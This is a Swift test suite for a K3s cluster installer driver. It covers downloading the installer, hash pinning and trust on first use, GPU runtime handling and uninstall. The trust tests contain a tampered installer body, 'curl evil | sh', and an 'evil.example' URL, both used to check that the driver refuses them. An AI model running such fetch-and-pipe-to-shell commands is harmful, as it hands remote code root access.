import AphexCore
import KubeClient
import ClusterDrivers
import Foundation
import SecretGen
import Testing
import TestSupport

let installerScript = "#!/bin/sh\n# k3s installer (test copy)\necho installing\n"

/// A fake host for k3s: the installer "installs" files under APHEX_HOST_ROOT.
final class K3sWorld: @unchecked Sendable {
    let lock = NSLock()
    let paths: HostPaths
    var nodeReady = true
    var apiDown = false
    var installerRuns: [(env: [String: String], mode: mode_t?, script: String)] = []
    var installerFails = false
    var restartAddsNvidia = true

    init(paths: HostPaths) { self.paths = paths }

    func install() {
        let fm = FileManager.default
        for (p, text, mode) in [
            (paths.k3sBinary, "#!/bin/sh\necho 'k3s version v1.31.4+k3s1 (a562d090)'\n", 0o755),
            (paths.k3sUninstallScript, "#!/bin/sh\n", 0o755),
            (paths.k3sKubeconfig, kubeconfigYAML(context: "default"), 0o600)
        ] {
            try! fm.createDirectory(
                atPath: (p as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
            _ = fm.createFile(atPath: p, contents: Data(text.utf8), attributes: [.posixPermissions: mode])
        }
        try! fm.createDirectory(
            atPath: (paths.k3sContainerdConfig as NSString).deletingLastPathComponent, withIntermediateDirectories: true
        )
        _ = fm.createFile(atPath: paths.k3sContainerdConfig, contents: Data("version = 2\n".utf8))
    }

    func handle(_ c: Command) throws -> CommandOutput {
        lock.lock()
        defer { lock.unlock() }
        let a = c.argv
        if a.count == 2 && a[0] == "sh" {
            let mode = PrivateFiles.mode(a[1])
            let script = FileManager.default.contents(atPath: a[1]).map { String(decoding: $0, as: UTF8.self) } ?? ""
            installerRuns.append((c.environment, mode, script))
            if installerFails { return CommandOutput(status: 1, stdout: "", stderr: "[ERROR]  Download failed\n") }
            install()
            return CommandOutput(status: 0, stdout: "[INFO]  systemd: Starting k3s\n")
        }
        if a == [paths.k3sBinary, "--version"] {
            return CommandOutput(status: 0, stdout: "k3s version v1.31.4+k3s1 (a562d090)\ngo version go1.22.9\n")
        }
        if a == [paths.k3sUninstallScript] {
            for p in [paths.k3sBinary, paths.k3sUninstallScript, paths.k3sKubeconfig] {
                try? FileManager.default.removeItem(atPath: p)
            }
            return CommandOutput(status: 0)
        }
        if a == ["systemctl", "restart", "k3s"] {
            if restartAddsNvidia {
                _ = FileManager.default.createFile(
                    atPath: paths.k3sContainerdConfig,
                    contents: Data(
                        """
                        version = 2
                        [plugins."io.containerd.grpc.v1.cri".containerd.runtimes."nvidia"]
                          runtime_type = "io.containerd.runc.v2"
                        """.utf8))
            }
            return CommandOutput(status: 0)
        }
        throw UnscriptedCommand(argv: a)
    }
}

extension K3sWorld {
    /// LIST /api/v1/nodes at k3s's API server (the server of k3s.yaml and of aphex's copy).
    func serve(_ r: HTTPRequest) throws -> HTTPResponse {
        lock.lock()
        defer { lock.unlock() }
        guard r.method == "GET", r.url == Self.nodesURL else { throw UnscriptedRequest(url: r.url) }
        if apiDown { throw apiServerRefused(r) }
        return nodesResponse([("gpu-box", nodeReady)])
    }

    static let nodesURL = testServer(context: "default") + "/api/v1/nodes"
}

struct K3sFixture {
    let scratch = Scratch()
    let world: K3sWorld
    let runner: RecordingRunner
    let clock = VirtualClock()
    let transport: FakeTransport
    let host: HostContext

    init(uid: UInt32 = 0, env: [String: String] = [:]) {
        world = K3sWorld(paths: HostPaths(root: scratch.hostRoot))
        let w = world
        runner = RecordingRunner { try w.handle($0) }
        transport = FakeTransport.serving(
            nodes: { try w.serve($0) }, other: { _ in HTTPResponse(status: 200, body: Array(installerScript.utf8)) })
        host = makeHost(scratch, runner: runner, clock: clock, uid: uid, env: env, transport: transport)
    }

    func driver(_ spec: K3sInstallSpec = K3sInstallSpec(name: "platform-cluster")) -> K3sDriver {
        K3sDriver(host: host, spec: spec)
    }
    var kubeconfig: String { scratch.home + "/.aphex/clusters/platform-cluster/kubeconfig" }
}

@Suite struct K3sDriverTests {
    @Test func hostPathsResolveUnderRoot() {
        let p = HostPaths(environment: ["APHEX_HOST_ROOT": "/tmp/fake/"])
        #expect(p.k3sKubeconfig == "/tmp/fake/etc/rancher/k3s/k3s.yaml")
        #expect(p.k3sUninstallScript == "/tmp/fake/usr/local/bin/k3s-uninstall.sh")
        #expect(p.rancherDataDirectory == "/tmp/fake/var/lib/rancher")
        #expect(HostPaths(environment: [:]).k3sKubeconfig == "/etc/rancher/k3s/k3s.yaml")
    }

    @Test func nonRootIsRefusedWithExit4AndNothingRuns() async throws {
        let f = K3sFixture(uid: 1000)
        let error = await #expect(throws: AphexError.self) { _ = try await f.driver().ensureCluster() }
        #expect(error?.status == .prerequisite)
        #expect(error?.message.contains("sudo aphex k3s install") == true)
        #expect(f.runner.argvs.isEmpty)
        #expect(f.transport.requested.isEmpty)
        let avail = await f.driver().isAvailable()
        #expect(!avail.available)
        let del = await #expect(throws: AphexError.self) { try await f.driver().delete() }
        #expect(del?.status == .prerequisite)
    }

    @Test func freshInstallDownloadsToPrivateFileAndRunsPinnedInstaller() async throws {
        let f = K3sFixture()
        let access = try await f.driver(K3sInstallSpec(name: "platform-cluster", disableTraefik: true)).ensureCluster()
        #expect(access.outcome == .created)
        // The release's own install.sh, not get.k3s.io's latest.
        #expect(f.transport.downloads == ["https://raw.githubusercontent.com/k3s-io/k3s/v1.31.4%2Bk3s1/install.sh"])
        let install = try #require(f.runner.commands.first { $0.argv.first == "sh" })
        #expect(
            install.argv.count == 2 && install.argv[1].hasPrefix(f.scratch.tmp + "/aphex-k3s-")
                && install.argv[1].hasSuffix("/install.sh"))
        #expect(
            install.environment == [
                "INSTALL_K3S_VERSION": "v1.31.4+k3s1",
                "INSTALL_K3S_EXEC": "--write-kubeconfig-mode 0600 --disable traefik"
            ])
        #expect(install.stdin == nil)
        let run = try #require(f.world.installerRuns.first)
        #expect(run.mode == 0o700)
        #expect(run.script == installerScript)
        // the temp installer is gone afterwards
        #expect(try FileManager.default.contentsOfDirectory(atPath: f.scratch.tmp).isEmpty)
        // kubeconfig copied with 0600, record written
        #expect(PrivateFiles.mode(f.kubeconfig) == 0o600)
        #expect(
            FileManager.default.contents(atPath: f.kubeconfig)
                == FileManager.default.contents(atPath: f.world.paths.k3sKubeconfig))
        #expect(ClusterRecord.load(f.host, name: "platform-cluster")?.deployment == "k3s")
        #expect(ClusterRecord.load(f.host, name: "platform-cluster")?.version == "v1.31.4+k3s1")
        #expect(access.context == nil)
    }

    @Test func exactArgvOfAFreshInstall() async throws {
        let f = K3sFixture()
        _ = try await f.driver(K3sInstallSpec(name: "platform-cluster", version: "v1.30.8+k3s1")).ensureCluster()
        let argv = f.runner.argvs
        // nothing installed yet: no probe read; the installer; one node read through aphex's copy
        let installer = try #require(argv.first { $0.first == "sh" })
        #expect(argv == [installer])
        #expect(f.transport.nodeReads == [K3sWorld.nodesURL])
        #expect(f.runner.commands[0].environment["INSTALL_K3S_VERSION"] == "v1.30.8+k3s1")
        #expect(f.runner.commands[0].environment["INSTALL_K3S_EXEC"] == "--write-kubeconfig-mode 0600")
    }

    @Test func secondInstallIsANoOp() async throws {
        let f = K3sFixture()
        _ = try await f.driver().ensureCluster()
        let kubeconfigBefore =
            try FileManager.default.attributesOfItem(atPath: f.kubeconfig)[.modificationDate] as? Date
        let recordBefore = FileManager.default.contents(atPath: ClusterRecord.path(f.host, name: "platform-cluster"))
        let n = f.runner.argvs.count
        let reads = f.transport.nodeReads.count
        let again = try await f.driver().ensureCluster()
        #expect(again.outcome == .reused)
        #expect(f.world.installerRuns.count == 1)
        #expect(f.transport.downloads.count == 1)
        // no command; two node reads: the probe (k3s.yaml) and the wait (aphex's copy)
        #expect(f.runner.argvs.count == n)
        #expect(f.transport.nodeReads.count == reads + 2)
        #expect(
            try FileManager.default.attributesOfItem(atPath: f.kubeconfig)[.modificationDate] as? Date
                == kubeconfigBefore)
        #expect(
            FileManager.default.contents(atPath: ClusterRecord.path(f.host, name: "platform-cluster")) == recordBefore)
    }

    @Test func unhealthyInstallIsRepairedByReRunningTheInstaller() async throws {
        let f = K3sFixture()
        f.world.install()
        f.world.apiDown = true
        let w = f.world
        // the installer restarts k3s: the API comes back
        let runner = RecordingRunner { c in
            if c.argv.first == "sh" {
                w.lock.lock()
                w.apiDown = false
                w.lock.unlock()
            }
            return try w.handle(c)
        }
        let host = makeHost(f.scratch, runner: runner, clock: f.clock, uid: 0, transport: f.transport)
        let access = try await K3sDriver(host: host, spec: K3sInstallSpec(name: "platform-cluster")).ensureCluster()
        #expect(access.outcome == .created)
        #expect(f.world.installerRuns.count == 1)
    }

    @Test func failedInstallerAndBadDownloadsAreReported() async throws {
        let f = K3sFixture()
        f.world.installerFails = true
        let e = await #expect(throws: AphexError.self) { _ = try await f.driver().ensureCluster() }
        #expect(e?.status == .failed)
        #expect(e?.message.contains("k3s uninstall") == true)
        #expect(e?.detail?.contains("Download failed") == true)

        let scratch = Scratch()
        let t404 = FakeTransport { _ in HTTPResponse(status: 404, body: Array("not found".utf8)) }
        let r = RecordingRunner { c in
            if c.argv.first == "sh" { Issue.record("installer must not run") }
            throw UnscriptedCommand(argv: c.argv)
        }
        let host = makeHost(scratch, runner: r, uid: 0, transport: t404)
        let e2 = await #expect(throws: AphexError.self) {
            _ = try await K3sDriver(host: host, spec: K3sInstallSpec(name: "x")).ensureCluster()
        }
        #expect(e2?.message.contains("HTTP 404") == true)

        let tHTML = FakeTransport { _ in HTTPResponse(status: 200, body: Array("<html>portal</html>".utf8)) }
        let host2 = makeHost(scratch, runner: r, uid: 0, transport: tHTML)
        let e3 = await #expect(throws: AphexError.self) {
            _ = try await K3sDriver(host: host2, spec: K3sInstallSpec(name: "x")).ensureCluster()
        }
        #expect(e3?.message.contains("not a shell script") == true)
    }

    @Test func installerURLOverrideAndFileURL() async throws {
        let scratch = Scratch()
        let script = scratch.root + "/saved-install.sh"
        scratch.write(script, installerScript)
        let world = K3sWorld(paths: HostPaths(root: scratch.hostRoot))
        let runner = RecordingRunner { try world.handle($0) }
        let host = makeHost(
            scratch, runner: runner, uid: 0, env: ["APHEX_K3S_INSTALL_URL": "file://" + script],
            transport: FakeTransport.serving(nodes: { try world.serve($0) }))
        _ = try await K3sDriver(host: host, spec: K3sInstallSpec(name: "platform-cluster")).ensureCluster()
        #expect(world.installerRuns.first?.script == installerScript)

        let t = FakeTransport { _ in HTTPResponse(status: 200, body: Array(installerScript.utf8)) }
        let host2 = makeHost(
            Scratch(), runner: RecordingRunner { try K3sWorld(paths: HostPaths(root: "/nonexistent")).handle($0) },
            uid: 0,
            env: ["APHEX_K3S_INSTALL_URL": "http://127.0.0.1:9/install.sh"], transport: t)
        #expect(K3sDriver(host: host2, spec: K3sInstallSpec(name: "x")).installerURL == "http://127.0.0.1:9/install.sh")
    }

    @Test func nodeWaitTimeoutIsExit3() async throws {
        let f = K3sFixture()
        f.world.nodeReady = false
        let e = await #expect(throws: AphexError.self) {
            _ = try await f.driver(K3sInstallSpec(name: "platform-cluster", waitTimeout: .seconds(30))).ensureCluster()
        }
        #expect(e?.status == .timeout)
        #expect(e?.message.contains("gpu-box") == true)
        #expect(e?.detail?.contains("KubeletNotReady") == true)
        #expect(f.clock.now() == .seconds(30))
    }

    @Test func gpuNeedsNvidiaToolsAndRestartsOnlyWhenRuntimeMissing() async throws {
        // tools missing -> exit 4 before anything runs
        let f = K3sFixture()
        let e = await #expect(throws: AphexError.self) {
            _ = try await f.driver(K3sInstallSpec(name: "platform-cluster", gpu: true)).ensureCluster()
        }
        #expect(e?.status == .prerequisite)
        #expect(e?.message.contains("nvidia-smi and nvidia-container-runtime") == true)
        #expect(f.runner.argvs.isEmpty)

        // tools present, runtime not yet detected -> one restart
        let bin = Scratch()
        for tool in ["nvidia-smi", "nvidia-container-runtime"] {
            bin.write(bin.root + "/bin/" + tool, "#!/bin/sh\n", mode: 0o755)
        }
        let g = K3sFixture(env: ["PATH": bin.root + "/bin:/usr/bin:/bin"])
        _ = try await g.driver(K3sInstallSpec(name: "platform-cluster", gpu: true)).ensureCluster()
        #expect(g.runner.argvs.filter { $0 == ["systemctl", "restart", "k3s"] }.count == 1)
        // runtime present -> no restart on the re-run
        _ = try await g.driver(K3sInstallSpec(name: "platform-cluster", gpu: true)).ensureCluster()
        #expect(g.runner.argvs.filter { $0 == ["systemctl", "restart", "k3s"] }.count == 1)
        let config = String(
            decoding: FileManager.default.contents(atPath: g.world.paths.k3sContainerdConfig)!, as: UTF8.self)
        #expect(!config.contains("default_runtime_name"))
    }

    @Test func uninstallRunsTheScriptAndRemovesAphexDirectory() async throws {
        let f = K3sFixture()
        _ = try await f.driver().ensureCluster()
        let existed = try await f.driver().delete()
        #expect(existed)
        #expect(f.runner.argvs.last == [f.world.paths.k3sUninstallScript])
        #expect(!FileManager.default.fileExists(atPath: f.scratch.home + "/.aphex/clusters/platform-cluster"))
        let again = try await f.driver().delete()
        #expect(!again)
        #expect(f.runner.argvs.filter { $0 == [f.world.paths.k3sUninstallScript] }.count == 1)
    }

    @Test func describeAndPlan() async throws {
        let f = K3sFixture()
        var d = try await f.driver().describe()
        #expect(!d.exists && !d.healthy)
        _ = try await f.driver().ensureCluster()
        d = try await f.driver().describe()
        #expect(d.exists && d.healthy && d.details["version"] == "v1.31.4+k3s1")
        let n = f.runner.argvs.count
        let plan = f.driver(K3sInstallSpec(name: "platform-cluster", disableTraefik: true, gpu: true)).planEnsure()
        #expect(f.runner.argvs.count == n)
        let install = try #require(plan.first { $0.command?.argv.first == "sh" })
        #expect(install.text.contains("INSTALL_K3S_EXEC='--write-kubeconfig-mode 0600 --disable traefik'"))
        #expect(install.text.contains("INSTALL_K3S_VERSION=v1.31.4+k3s1"))
        #expect(plan.contains { $0.command?.argv == ["systemctl", "restart", "k3s"] })
    }
}

@Suite struct K3sResumeTests {
    @Test func runningK3sWithNodeComingUpIsWaitedForWithoutReinstalling() async throws {
        let f = K3sFixture()
        f.world.install()
        f.world.nodeReady = false
        let w = f.world, clock = f.clock
        let runner = RecordingRunner { try w.handle($0) }
        let transport = FakeTransport.serving(nodes: { r in
            if clock.now() >= .seconds(4) { w.lock.withLock { w.nodeReady = true } }
            return try w.serve(r)
        })
        let host = makeHost(f.scratch, runner: runner, clock: clock, uid: 0, transport: transport)
        let access = try await K3sDriver(host: host, spec: K3sInstallSpec(name: "platform-cluster")).ensureCluster()
        #expect(access.outcome == .reused)
        #expect(f.world.installerRuns.isEmpty)
        #expect(transport.downloads.isEmpty)
        #expect(access.nodes.allSatisfy { $0.ready })
    }
}

@Suite struct K3sInstallerOverLibcurlTests {
    @Test func installerIsFetchedThroughTheRealCurlTransport() async throws {
        let server = try HTTPTestServer { req in
            req.path == "/install.sh"
                ? .text(200, installerScript, headers: ["Content-Type": "text/plain"]) : .text(404, "not found")
        }
        defer { server.stop() }
        let scratch = Scratch()
        let world = K3sWorld(paths: HostPaths(root: scratch.hostRoot))
        let runner = RecordingRunner { try world.handle($0) }
        var host = makeHost(
            scratch, runner: runner, uid: 0, env: ["APHEX_K3S_INSTALL_URL": server.baseURL + "/install.sh"])
        host.makeTransport = { NodeRoutingTransport(nodes: { try world.serve($0) }, other: CurlTransport(tls: $0)) }
        let access = try await K3sDriver(host: host, spec: K3sInstallSpec(name: "platform-cluster")).ensureCluster()
        #expect(access.outcome == .created)
        #expect(server.requests.map { "\($0.method) \($0.path)" } == ["GET /install.sh"])
        #expect(world.installerRuns.first?.script == installerScript)
        #expect(world.installerRuns.first?.mode == 0o700)

        // a 404 is reported and nothing is run
        let scratch2 = Scratch()
        let world2 = K3sWorld(paths: HostPaths(root: scratch2.hostRoot))
        let runner2 = RecordingRunner { try world2.handle($0) }
        var host2 = makeHost(
            scratch2, runner: runner2, uid: 0, env: ["APHEX_K3S_INSTALL_URL": server.baseURL + "/missing.sh"])
        host2.makeTransport = { NodeRoutingTransport(nodes: { try world2.serve($0) }, other: CurlTransport(tls: $0)) }
        let e = await #expect(throws: AphexError.self) {
            _ = try await K3sDriver(host: host2, spec: K3sInstallSpec(name: "platform-cluster")).ensureCluster()
        }
        #expect(e?.message.contains("HTTP 404") == true)
        #expect(world2.installerRuns.isEmpty)
        withExtendedLifetime((scratch, scratch2)) {}
    }
}

@Suite struct K3sReuseWarningsTests {
    @Test func reuseWarnsWhenAskedFlagsDifferFromTheInstall() async throws {
        let f = K3sFixture()
        f.world.install()
        f.scratch.write(
            f.world.paths.k3sServiceUnit,
            "[Service]\nExecStart=/usr/local/bin/k3s \\\n    server \\\n\t'--write-kubeconfig-mode' \\\n\t'0600' \\\n")
        let reporter = CollectingReporter()
        let host = makeHost(
            f.scratch, runner: f.runner, clock: f.clock, reporter: reporter, uid: 0, transport: f.transport)
        let access = try await K3sDriver(
            host: host, spec: K3sInstallSpec(name: "platform-cluster", version: "v1.32.1+k3s1", disableTraefik: true)
        ).ensureCluster()
        #expect(access.outcome == .reused)
        #expect(f.world.installerRuns.isEmpty)
        let warnings = reporter.events.compactMap { e -> String? in
            if case .log(.warning, let m) = e { return m } else { return nil }
        }
        #expect(warnings.contains { $0.contains("--disable-traefik") })
        #expect(warnings.contains { $0.contains("v1.31.4+k3s1 is installed but --k3s-version v1.32.1+k3s1") })
    }
}

@Suite struct K3sInstallDetectionTests {
    @Test func uninstallScriptAloneMarksAnInstall() async throws {
        // INSTALL_K3S_BIN_DIR elsewhere: only the uninstall script is at the default path
        let f = K3sFixture()
        f.world.install()
        try FileManager.default.removeItem(atPath: f.world.paths.k3sBinary)
        let d = f.driver()
        #expect(d.isInstalled)
        #expect(d.versionCommand.argv == ["k3s", "--version"])
        let access = try await d.ensureCluster()
        #expect(access.outcome == .reused)
        #expect(f.world.installerRuns.isEmpty)
    }
}

/// Item 7 of issue 14: the installer runs as root, so it is pinned or trusted on first use like
/// the manifests, fetched over https only, and the test hooks are honoured only by test builds
/// or a non-root user.
@Suite struct K3sInstallerTrustTests {
    static let version = "v1.31.4+k3s1"
    var lockKey: String { "k3s-installer-\(Self.version)" }

    @Test func firstUseIsRecordedAndALaterChangeIsRefused() async throws {
        let f = K3sFixture()
        _ = try await f.driver().ensureCluster()
        let lockPath = f.scratch.home + "/.aphex/manifests.lock"
        let entry = try #require(try ManifestLock.load(path: lockPath).entries[lockKey])
        #expect(entry.sha256 == Digest.sha256Hex(Array(installerScript.utf8)))
        #expect(entry.source == "first-use" && entry.component == "k3s-installer" && entry.version == Self.version)
        #expect(entry.url == K3sInstallSpec.tagInstallerURL(version: Self.version))

        // Reinstall (uninstalled meanwhile) with a different script: refused, nothing run.
        _ = try await f.driver().delete()
        let w = f.world
        let changed = FakeTransport.serving(
            nodes: { try w.serve($0) },
            other: { _ in HTTPResponse(status: 200, body: Array("#!/bin/sh\ncurl evil | sh\n".utf8)) })
        let host = makeHost(f.scratch, runner: f.runner, clock: f.clock, uid: 0, transport: changed)
        let runs = f.world.installerRuns.count
        let e = await #expect(throws: AphexError.self) {
            _ = try await K3sDriver(host: host, spec: K3sInstallSpec(name: "platform-cluster")).ensureCluster()
        }
        #expect(e?.status == .failed)
        #expect(e?.message.contains("recorded \(entry.sha256)") == true)
        #expect(f.world.installerRuns.count == runs)
    }

    @Test func aPinIsEnforcedAndRecordedWithItsSource() async throws {
        let f = K3sFixture()
        let wrong = String(repeating: "0", count: 64)
        let e = await #expect(throws: AphexError.self) {
            _ = try await f.driver(K3sInstallSpec(name: "platform-cluster", installerSHA256: wrong)).ensureCluster()
        }
        #expect(e?.status == .failed)
        #expect(e?.message.contains("the components file pins \(wrong)") == true)
        #expect(f.world.installerRuns.isEmpty)

        let right = Digest.sha256Hex(Array(installerScript.utf8))
        _ = try await f.driver(
            K3sInstallSpec(name: "platform-cluster", installerSHA256: right.uppercased(), requirePinned: true)
        ).ensureCluster()
        #expect(f.world.installerRuns.count == 1)
        #expect(
            try ManifestLock.load(path: f.scratch.home + "/.aphex/manifests.lock").entries[lockKey]?.source
                == "components file")
    }

    @Test func requirePinnedRefusesAnUnpinnedInstallerBeforeDownloading() async throws {
        let f = K3sFixture()
        let e = await #expect(throws: AphexError.self) {
            _ = try await f.driver(K3sInstallSpec(name: "platform-cluster", requirePinned: true)).ensureCluster()
        }
        #expect(e?.status == .usage)
        #expect(e?.message.contains("--require-pinned") == true)
        #expect(e?.message.contains("k3s-installer") == true)
        #expect(f.transport.downloads.isEmpty)
        #expect(f.world.installerRuns.isEmpty)
        #expect(
            f.driver(K3sInstallSpec(name: "platform-cluster", requirePinned: true)).planEnsure()
                .contains { $0.summary.contains("refuse it (--require-pinned: no pin)") })
    }

    @Test func plainHTTPIsRefused() async throws {
        // From a components file: never.
        let f = K3sFixture()
        let e = await #expect(throws: AphexError.self) {
            _ = try await f.driver(
                K3sInstallSpec(name: "platform-cluster", installerURL: "http://mirror.example/install.sh")
            ).ensureCluster()
        }
        #expect(e?.status == .usage)
        #expect(e?.message.contains("only over https://") == true)
        #expect(f.transport.downloads.isEmpty)
        // From the test hook: only loopback, only in a test build (the simulator's installer).
        let g = K3sFixture(env: ["APHEX_K3S_INSTALL_URL": "http://mirror.example/install.sh"])
        await #expect(throws: AphexError.self) { _ = try await g.driver().ensureCluster() }
        #expect(g.transport.downloads.isEmpty)
        let h = K3sFixture(env: ["APHEX_K3S_INSTALL_URL": "http://127.0.0.1:9/install.sh"])
        _ = try await h.driver().ensureCluster()
        #expect(h.transport.downloads == ["http://127.0.0.1:9/install.sh"])
    }

    @Test func componentsFileURLIsUsedWithItsVersion() async throws {
        let f = K3sFixture()
        _ = try await f.driver(
            K3sInstallSpec(name: "platform-cluster", installerURL: "https://mirror.example/k3s/{version}/install.sh")
        ).ensureCluster()
        #expect(f.transport.downloads == ["https://mirror.example/k3s/v1.31.4+k3s1/install.sh"])
    }

    @Test func aReleaseBuildRunningAsRootRefusesTheTestHooks() async throws {
        for hook in [["APHEX_K3S_INSTALL_URL": "https://evil.example/install.sh"], [:]] {
            let f = K3sFixture(env: hook)  // makeHost always sets APHEX_HOST_ROOT
            var host = f.host
            host.testBuild = false
            let e = await #expect(throws: AphexError.self) {
                _ = try await K3sDriver(host: host, spec: K3sInstallSpec(name: "platform-cluster")).ensureCluster()
            }
            #expect(e?.status == .usage)
            #expect(e?.message.contains("APHEX_HOST_ROOT") == true)
            #expect(e?.message.contains("not honoured by a release build running as root") == true)
            #expect(f.transport.requested.isEmpty && f.runner.argvs.isEmpty)
            // What the driver would use: the real host and the tag's installer, never the hooks.
            let d = K3sDriver(host: host, spec: K3sInstallSpec(name: "platform-cluster"))
            #expect(d.paths.k3sKubeconfig == "/etc/rancher/k3s/k3s.yaml")
            #expect(d.installerURL == K3sInstallSpec.tagInstallerURL(version: Self.version))
        }
        // Not root: the hooks can reach nothing that user could not, so they are honoured.
        let f = K3sFixture(uid: 1000, env: ["APHEX_K3S_INSTALL_URL": "https://mirror.example/install.sh"])
        var host = f.host
        host.testBuild = false
        let d = K3sDriver(host: host, spec: K3sInstallSpec(name: "platform-cluster"))
        #expect(d.paths.root == f.scratch.hostRoot)
        #expect(d.installerURL == "https://mirror.example/install.sh")
    }
}
